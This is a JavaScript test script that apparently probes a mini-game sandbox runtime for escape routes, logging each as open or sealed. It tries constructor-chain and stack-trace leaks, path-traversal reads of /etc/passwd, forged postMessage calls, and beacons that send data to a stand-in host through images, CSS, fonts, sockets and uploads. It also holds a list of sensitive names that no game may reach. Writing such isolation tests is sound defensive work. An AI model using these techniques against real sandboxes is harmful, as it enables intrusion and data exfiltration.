/**
 * Tries every way out of the realm, each by its name. A way that finds something says what; one that finds nothing, or is
 * refused, says 'sealed'. Sloppy mode on purpose.
 */
const real = (function () {
  return this;
})();
/** Objects that no game may hold: the parts of a page, and everything that communicates. */
const TREASURE = [
  'ownerDocument',
  'parentNode',
  'parentElement',
  'getRootNode',
  'defaultView',
  'contentWindow',
  'baseURI',
  'addEventListener',
  'fetch',
  'XMLHttpRequest',
  'WebSocket',
  'localStorage',
  'indexedDB',
  'navigator',
  'Worker',
  'open',
  'postMessage',
  'createElement',
  'cookie',
  'WebAssembly',
  'EventSource',
  'sendBeacon',
];

/** a host that records connections; the test passes its own */
const far = GameGlobal.far ?? 'https://example.com/beacon';
const ways = {
  'constructor chains': () => {
    const functions = [
      () => 1,
      async () => 1,
      function* () {
        yield 1;
      },
      async function* () {
        yield 1;
      },
    ];
    functions.push(wx.createCanvas, requestAnimationFrame, console.log, setTimeout, require, wx.request);
    return functions.filter((f) => {
      try {
        return f.constructor('return this')() !== undefined;
      } catch {
        return false;
      }
    });
  },
  'prototype walks': () => {
    const canvas = wx.createCanvas();
    const context = canvas.getContext('2d');
    const found = [];
    const seen = new Set();
    const walk = (value, path, depth) => {
      if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value))
        return;
      seen.add(value);
      for (let level = value; level; level = Object.getPrototypeOf(level)) {
        for (const name of Object.getOwnPropertyNames(level)) {
          // names of wx's own adapters on the package's own objects do not count
          if (TREASURE.includes(name) && !(value === wx)) found.push(`${path}.${name}`);
          if (depth === 0 || name === 'caller' || name === 'callee' || name === 'arguments') continue;
          let next;
          try {
            next = value[name];
          } catch {
            continue;
          }
          walk(next, `${path}.${name}`, depth - 1);
        }
      }
    };
    const starts = { canvas, context, wx, GameGlobal, console, image: wx.createImage(), require, module };
    starts.gl = wx.createCanvas().getContext('webgl');
    starts.audio = wx.createInnerAudioContext();
    starts.sound = wx.createWebAudioContext();
    starts.sharedCanvas = wx.getOpenDataContext().canvas;
    starts.path = wx.createPath2D();
    for (const [name, start] of Object.entries(starts)) walk(start, name, 2);
    return found.filter((path) => !ALLOWED.test(path));
  },
  'error stacks': () => {
    const found = [];
    const describe = (value) => `${typeof value} ${String(value).slice(0, 60)} ${Object.keys(value)}`;
    Error.prepareStackTrace = (_, sites) => {
      for (const site of sites) {
        for (const value of [site.getThis?.(), site.getFunction?.()]) {
          // it may see anything of this file, but nothing of the runtime
          const isOwn = typeof value === 'function' && /am I|'here'|"here"/.test(String(value));
          const isOwnObject = [throwing, ways, module.exports, real].includes(value) || Array.isArray(value);
          if (value !== undefined && value !== null && !isOwn && !isOwnObject) found.push(describe(value));
        }
      }
      return '';
    };
    let depth = 0;
    const throwing = {
      get success() {
        if (depth++ === 0) new Error('where am I').stack;
        return undefined;
      },
    };
    wx.getSystemInfo(throwing);
    [1].map(() => new Error('here').stack);
    Error.prepareStackTrace = undefined;
    return found;
  },
  'string timers': () =>
    [setTimeout, setInterval].filter((timer) => {
      try {
        timer('GameGlobal.broken = true', 0);
        return true;
      } catch {
        return false;
      }
    }),
  workers: () =>
    [typeof Worker, typeof SharedWorker, typeof importScripts].filter((type) => type !== 'undefined'),
  'workers elsewhere': () =>
    ['../game.js', '/etc/passwd', far, 'data:text/javascript,1'].filter((path) => {
      try {
        return Boolean(wx.createWorker(path));
      } catch {
        return false;
      }
    }),
  'sloppy this': () =>
    TREASURE.filter((name) => {
      if (name === 'postMessage') return false;
      return real[name] !== undefined;
    }),
  'names that are left': () =>
    Object.getOwnPropertyNames(real).filter((name) => !LEFT.includes(name) && real[name] !== undefined),
  'the emptied document': () => {
    const names = [];
    for (const name of [...TREASURE, 'body', 'head', 'write', 'querySelector', 'forms', 'scripts']) {
      if (real.document?.[name] !== undefined) names.push(name);
    }
    return names;
  },
  'opener, parent and top': () => {
    const peek = (window, name) => {
      try {
        return window?.[name];
      } catch {
        return undefined;
      }
    };
    const names = ['document', 'localStorage', '__tiao', 'fetch', 'name', 'frameElement'];
    return [real.opener, real.parent, real.top].flatMap((window) =>
      names.filter((name) => peek(window, name) !== undefined),
    );
  },
  'navigating the page': () => {
    try {
      real.top.location = far;
      return undefined; // the browser refuses silently; the test checks the page's address
    } catch {
      return undefined;
    }
  },
  'forged messages': () => {
    // the page must not take these for messages of its realm; the test checks that it still runs
    const lies = [
      'tiao:ready',
      { type: 'fault', fault: { kind: 'script', message: 'forged' } },
      { type: 'booted', ms: 1 },
    ];
    for (const lie of lies) real.top.postMessage(lie, '*');
    for (let i = 0; i < real.top.length; i++) {
      real.top[i].postMessage({ type: 'tiao:boot', index: {}, scripts: [], files: [] }, '*');
    }
    return undefined;
  },
  'image beacons': () => {
    wx.createImage().src = far;
    wx.createImage().src = far.replace(/^https?:/, '');
    const image = wx.createImage();
    image.src = `data:image/svg+xml,${encodeURIComponent(
      `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${far}" width="9" height="9"/></svg>`,
    )}`;
  },
  'style beacons': () => {
    const canvas = wx.createCanvas();
    const context = canvas.getContext('2d');
    context.filter = `url(${far}#f)`;
    context.fillStyle = `url(${far})`;
    context.font = `12px url(${far})`;
    context.fillRect(0, 0, 1, 1);
    canvas.style = { backgroundImage: `url(${far})` };
    wx.getOpenDataContext({
      sharedCanvasMode: 'screenCanvas',
    }).canvas.style.left = `0;background:url(${far})`;
    return wx.loadFont(far) === null ? undefined : ['font'];
  },
  'sounds from elsewhere': () => {
    const audio = wx.createInnerAudioContext();
    audio.src = far;
    audio.play();
  },
  'requires that climb': () =>
    ['../../../../etc/passwd', '/../escape/game.js', '../escape/game', far].filter((path) => {
      try {
        return require(path) !== undefined;
      } catch {
        return false;
      }
    }),
  'files that climb': () => {
    const fs = wx.getFileSystemManager();
    const paths = ['../escape/game.js', '/etc/passwd', 'file:///etc/passwd', 'wxfile://usr/../../etc/passwd'];
    paths.push('game.js', 'game.json', `${wx.env.USER_DATA_PATH}/../../../etc/passwd`);
    return paths.filter((path) => {
      try {
        return fs.readFileSync(path).byteLength > 0;
      } catch {
        return false;
      }
    });
  },
  'audio that runs code or opens streams': () => {
    const context = wx.createWebAudioContext();
    const node = context.createGain();
    const names = ['audioWorklet', 'setSinkId', 'getOutputTimestamp'];
    names.push('createMediaStreamDestination', 'createMediaStreamSource', 'createMediaElementSource');
    return [context, node.context ?? context].flatMap((one) =>
      names.filter((name) => one[name] !== undefined),
    );
  },
  'functions of a class of functions': () => {
    const kinds = [() => 1, async () => 1];
    return kinds.filter((kind) => {
      try {
        const Made = class extends kind.constructor {};
        return typeof new Made('return this') === 'function';
      } catch {
        return false;
      }
    });
  },
  'names by way of symbols': () => {
    const objects = {
      wx,
      GameGlobal,
      real,
      document: real.document,
      context: wx.createCanvas().getContext('2d'),
    };
    return Object.entries(objects).flatMap(([name, object]) =>
      Object.getOwnPropertySymbols(object ?? {})
        .filter((symbol) => String(symbol).includes('tiao'))
        .map((symbol) => `${name}[${String(symbol)}]`),
    );
  },
  'names that a text asks for': () =>
    ['self', 'window', 'frames', 'parent', 'globalThis', 'opener', 'navigator'].filter((name) => {
      const found = real[name] ?? GameGlobal[name];
      return found !== undefined && found !== null && found.XMLHttpRequest !== undefined;
    }),
  'fonts and videos from elsewhere': () => {
    wx.loadFont(far);
    wx.createVideo?.({ src: far, autoplay: true });
    return undefined;
  },
  'sockets, uploads and downloads elsewhere': () => {
    wx.connectSocket({ url: far.replace(/^http/, 'ws') });
    wx.downloadFile({ url: far });
    wx.uploadFile({ url: far, filePath: 'game.json', name: 'a' });
    wx.request({ url: far.replace('http://', 'HTTP://name:word@') });
    wx.request({ url: `${far}#fragment` });
    wx.request({ url: `//${far.split('//')[1]}` });
    return undefined;
  },
  'the open data domain': () => {
    const context = wx.getOpenDataContext();
    const names = ['contentWindow', 'onmessage', 'port', 'peer'].filter(
      (name) => context[name] !== undefined,
    );
    if (wx.getSharedCanvas !== undefined) names.push('its members');
    return names;
  },
};

/** Names of phones that only look like a browser's. */
const ALLOWED =
  /^(GameGlobal|module|require)\.|console\.|\.postMessage$|^wx\.|^image\.(constructor\.prototype\.)?addEventListener$|\.canvas\.(getContext|style)/;
const LEFT = GameGlobal.left ?? [];

for (const [name, way] of Object.entries(ways)) {
  let said = 'sealed';
  try {
    const got = way();
    if (Array.isArray(got) && got.length > 0) said = `OPEN: ${got.map(String).join(', ').slice(0, 400)}`;
  } catch (error) {
    said = `sealed (${error.name ?? ''}: ${error.message ?? error.errMsg})`;
  }
  console.log(`${name}: ${said}`);
}

// these answer later
const request = (name, url) =>
  wx.request({
    url,
    success: () => console.log(`${name}: OPEN: ${url}`),
    fail: ({ errMsg }) => console.log(`${name}: sealed (${errMsg})`),
  });
request('another host', far);
request("the server's disk", GameGlobal.disk ?? 'http://localhost/');
import('data:text/javascript,export default 1').then(
  () => console.log('import(): OPEN'),
  (error) => console.log(`import(): sealed (${error.message.slice(0, 30)})`),
);
setTimeout(() => console.log(`code in text: ${GameGlobal.broken ? 'OPEN' : 'sealed'}`), 30);

const context = wx.createCanvas().getContext('2d');
context.fillStyle = '#2a8';
requestAnimationFrame(function draw() {
  context.fillRect(0, 0, 999, 999);
  requestAnimationFrame(draw);
});
